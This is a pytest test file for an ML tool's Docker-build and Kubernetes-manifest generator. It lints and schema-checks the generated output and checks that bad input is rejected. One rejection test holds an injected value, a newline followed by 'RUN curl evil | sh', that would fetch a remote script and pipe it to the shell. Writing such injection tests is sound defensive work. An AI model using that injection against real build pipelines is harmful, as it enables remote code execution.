"""``ardea models build-docker`` and ``generate-k8s``: the files they write, linted and
validated offline (hadolint; the Kubernetes JSON schemas, strict), and their bad input."""

from __future__ import annotations

import json
import re
import shlex
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner, Result

from ardea.cli.main import cli
from ardea.cli.version import ardea_version
from fixtures.deploy_tools import hadolint, validate_k8s


def run(*args: str) -> Result:
    return CliRunner().invoke(cli, ["models", *args])


@pytest.fixture
def model_dir(tmp_path: Path) -> Path:
    """A model folder as the model format lays it out (MLmodel, requirements, files)."""
    model = tmp_path / "iris-model"
    (model / "code").mkdir(parents=True)
    (model / "MLmodel").write_text("flavors:\n  python_function: {}\n", encoding="utf-8")
    (model / "requirements.txt").write_text("scikit-learn==1.5.2\n", encoding="utf-8")
    (model / "code" / "helper.py").write_text("X = 1\n", encoding="utf-8")
    return model


def _cmd(dockerfile: str) -> list[str]:
    line = next(x for x in dockerfile.splitlines() if x.startswith("CMD "))
    return list(json.loads(line[4:]))


def test_build_docker_bakes_a_local_model_into_the_context(model_dir: Path, tmp_path: Path) -> None:
    out = tmp_path / "ctx"
    result = run("build-docker", "-m", str(model_dir), "-d", str(out), "--workers", "3")
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in out.iterdir()) == [
        ".dockerignore",
        "Dockerfile",
        "model",
        "requirements.txt",
    ]
    assert (out / "model" / "MLmodel").read_bytes() == (model_dir / "MLmodel").read_bytes()
    assert (out / "model" / "code" / "helper.py").is_file()
    reqs = (out / "requirements.txt").read_text(encoding="utf-8").splitlines()
    assert f"ardea[serving]=={ardea_version()}" in reqs and "-r model/requirements.txt" in reqs
    dockerfile = (out / "Dockerfile").read_text(encoding="utf-8")
    assert _cmd(dockerfile) == [
        "ardea", "models", "serve", "-m", "/opt/ardea/model",
        "--host", "0.0.0.0", "--port", "8080", "--workers", "3",
    ]  # fmt: skip
    assert "COPY model/ /opt/ardea/model/" in dockerfile
    assert re.search(r"^USER 10001", dockerfile, re.M)  # not root
    assert "http://127.0.0.1:8080/ping" in dockerfile  # HEALTHCHECK
    lint = hadolint(out / "Dockerfile")
    assert lint.returncode == 0, lint.stdout + lint.stderr


def test_build_docker_for_a_registry_uri_loads_the_model_at_start(tmp_path: Path) -> None:
    out = tmp_path / "ctx"
    result = run(
        "build-docker",
        "-m",
        "models:/iris@champion",
        "-d",
        str(out),
        "--ardea-requirement",
        "ardea[sklearn]==9.9",
        "--base-image",
        "python:3.12-slim",
    )
    assert result.exit_code == 0, result.output
    assert not (out / "model").exists()
    dockerfile = (out / "Dockerfile").read_text(encoding="utf-8")
    assert dockerfile.splitlines()[3] == "FROM python:3.12-slim"
    assert _cmd(dockerfile)[3:5] == ["-m", "models:/iris@champion"]
    assert "ARDEA_TRACKING_URI" in dockerfile
    reqs = (out / "requirements.txt").read_text(encoding="utf-8").splitlines()
    assert "ardea[sklearn]==9.9" in reqs and "-r model/requirements.txt" not in reqs
    lint = hadolint(out / "Dockerfile")
    assert lint.returncode == 0, lint.stdout + lint.stderr


def test_hadolint_catches_a_bad_dockerfile(tmp_path: Path) -> None:
    """The lint is real: an unpinned apt-get install and a shell-form CMD are reported."""
    bad = tmp_path / "Dockerfile"
    bad.write_text("FROM python\nRUN apt-get install curl\nCMD ardea models serve\n")
    lint = hadolint(bad)
    assert lint.returncode != 0
    assert "DL3006" in lint.stdout and "DL3025" in lint.stdout


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["-m", "models:/a\nRUN curl evil | sh"], "control characters"),
        (["--base-image", "python\nRUN x"], "not an image reference"),
        (["--workers", "0"], "at least 1"),
    ],
)
def test_build_docker_rejects_bad_input(tmp_path: Path, args: list[str], message: str) -> None:
    full = ["-m", "models:/a@b", "-d", str(tmp_path / "ctx"), *args]
    result = run("build-docker", *full)
    assert result.exit_code == 2 and message in result.output
    assert not (tmp_path / "ctx").exists()  # nothing written


def test_build_docker_refuses_a_non_model_folder_and_a_full_output(
    model_dir: Path, tmp_path: Path
) -> None:
    (model_dir / "MLmodel").unlink()
    result = run("build-docker", "-m", str(model_dir), "-d", str(tmp_path / "a"))
    assert result.exit_code == 2 and "no MLmodel file" in result.output
    result = run("build-docker", "-m", str(tmp_path / "nope"), "-d", str(tmp_path / "a"))
    assert result.exit_code == 2 and "is not a folder" in result.output
    full = tmp_path / "full"
    full.mkdir()
    (full / "keep.txt").write_text("mine")
    result = run("build-docker", "-m", "models:/a@b", "-d", str(full))
    assert result.exit_code == 2 and "is not empty" in result.output
    assert [p.name for p in full.iterdir()] == ["keep.txt"]


def _manifests(*args: str) -> list[dict[str, Any]]:
    result = run("generate-k8s", *args)
    assert result.exit_code == 0, result.output
    return list(yaml.safe_load_all(result.output))


def test_generate_k8s_writes_valid_deployment_service_and_hpa() -> None:
    docs = _manifests(
        "-m", "models:/iris@champion", "--name", "iris", "--replicas", "3",
        "--cpu", "500m", "--memory", "768Mi", "--workers", "2", "--max-replicas", "10",
        "--namespace", "ml", "--tracking-uri", "http://ardea.ml.svc:5000",
        "--env-secret", "ardea-token", "--image", "registry.local/iris:1.0",
    )  # fmt: skip
    assert [d["kind"] for d in docs] == ["Deployment", "Service", "HorizontalPodAutoscaler"]
    for doc in docs:
        validate_k8s(doc)
        assert doc["metadata"] == {
            "name": "iris",
            "namespace": "ml",
            "labels": {"app.kubernetes.io/name": "iris"},
        }
    deployment, service, hpa = docs
    assert deployment["spec"]["replicas"] == 3
    pod = deployment["spec"]["template"]["spec"]
    (container,) = pod["containers"]
    assert container["image"] == "registry.local/iris:1.0"
    assert container["command"] == [
        "ardea", "models", "serve", "-m", "models:/iris@champion",
        "--host", "0.0.0.0", "--port", "8080", "--workers", "2",
    ]  # fmt: skip
    for probe in ("startupProbe", "readinessProbe", "livenessProbe"):
        assert container[probe]["httpGet"] == {"path": "/ping", "port": "http"}
    assert container["resources"] == {
        "requests": {"cpu": "500m", "memory": "768Mi"},
        "limits": {"cpu": "500m", "memory": "768Mi"},
    }
    assert container["env"] == [{"name": "ARDEA_TRACKING_URI", "value": "http://ardea.ml.svc:5000"}]
    assert container["envFrom"] == [{"secretRef": {"name": "ardea-token"}}]
    assert pod["securityContext"]["runAsNonRoot"] is True
    assert service["spec"]["selector"] == deployment["spec"]["selector"]["matchLabels"]
    assert service["spec"]["ports"][0]["targetPort"] == "http"
    assert hpa["spec"]["scaleTargetRef"]["name"] == "iris"
    assert (hpa["spec"]["minReplicas"], hpa["spec"]["maxReplicas"]) == (3, 10)


def test_generate_k8s_defaults_and_output_file(tmp_path: Path) -> None:
    out = tmp_path / "k8s.yaml"
    result = run("generate-k8s", "-m", "runs:/abc/model", "--name", "m1", "-o", str(out))
    assert result.exit_code == 0, result.output
    docs = list(yaml.safe_load_all(out.read_text(encoding="utf-8")))
    for doc in docs:
        validate_k8s(doc)
    container = docs[0]["spec"]["template"]["spec"]["containers"][0]
    assert container["image"] == "m1:latest" and "env" not in container
    assert (docs[2]["spec"]["minReplicas"], docs[2]["spec"]["maxReplicas"]) == (1, 4)
    assert "&id" not in out.read_text(encoding="utf-8")  # no YAML anchors


def test_schema_validation_is_real() -> None:
    """A manifest with a wrong field fails the strict schema check."""
    import kubernetes_validate

    (deployment, *_) = _manifests("-m", "m", "--name", "m1")
    deployment["spec"]["replicas"] = "three"
    with pytest.raises(kubernetes_validate.ValidationError):
        validate_k8s(deployment)


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--name", "Iris_Model"], "not a Kubernetes name"),
        (["--name", "m", "--cpu", "two"], "not a CPU quantity"),
        (["--name", "m", "--memory", "1 GB"], "not a memory quantity"),
        (["--name", "m", "--replicas", "0"], "at least 1"),
        (["--name", "m", "--min-replicas", "5", "--max-replicas", "2"], "at least 5"),
        (["--name", "m", "--target-cpu", "150"], "150"),
        (["--name", "m", "--image", "a b"], "not an image reference"),
    ],
)
def test_generate_k8s_rejects_bad_input(args: list[str], message: str) -> None:
    result = run("generate-k8s", "-m", "models:/a@b", *args)
    assert result.exit_code == 2, result.output
    assert message in result.output


DOCS = Path(__file__).resolve().parents[3] / "docs" / "deployment.md"


def _documented(command: str) -> list[str]:
    lines = [x for x in DOCS.read_text(encoding="utf-8").splitlines() if x.startswith(command)]
    assert len(lines) == 1, lines
    return shlex.split(lines[0])[2:]  # after "ardea models"


def test_the_documented_commands_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "iris-model").mkdir()
    (tmp_path / "iris-model" / "MLmodel").write_text("flavors: {}\n")
    result = run(*_documented("ardea models build-docker"))
    assert result.exit_code == 0, result.output
    lint = hadolint(tmp_path / "iris-image" / "Dockerfile")
    assert lint.returncode == 0, lint.stdout
    result = run(*_documented("ardea models generate-k8s"))
    assert result.exit_code == 0, result.output
    docs = list(yaml.safe_load_all((tmp_path / "iris.yaml").read_text(encoding="utf-8")))
    assert [d["kind"] for d in docs] == ["Deployment", "Service", "HorizontalPodAutoscaler"]
    for doc in docs:
        validate_k8s(doc)


def test_allow_pickle_reaches_the_serve_command(model_dir: Path, tmp_path: Path) -> None:
    result = run(
        "build-docker", "-m", str(model_dir), "-d", str(tmp_path / "ctx"), "--allow-pickle"
    )
    assert result.exit_code == 0, result.output
    assert '"--allow-pickle"]' in (tmp_path / "ctx" / "Dockerfile").read_text(encoding="utf-8")
    result = run("generate-k8s", "-m", "models:/m@prod", "--name", "m", "--allow-pickle")
    assert result.exit_code == 0, result.output
    deployment = next(yaml.safe_load_all(result.output))
    assert (
        deployment["spec"]["template"]["spec"]["containers"][0]["command"][-1] == "--allow-pickle"
    )
    result = run("generate-k8s", "-m", "models:/m@prod", "--name", "m")
    assert "--allow-pickle" not in result.output
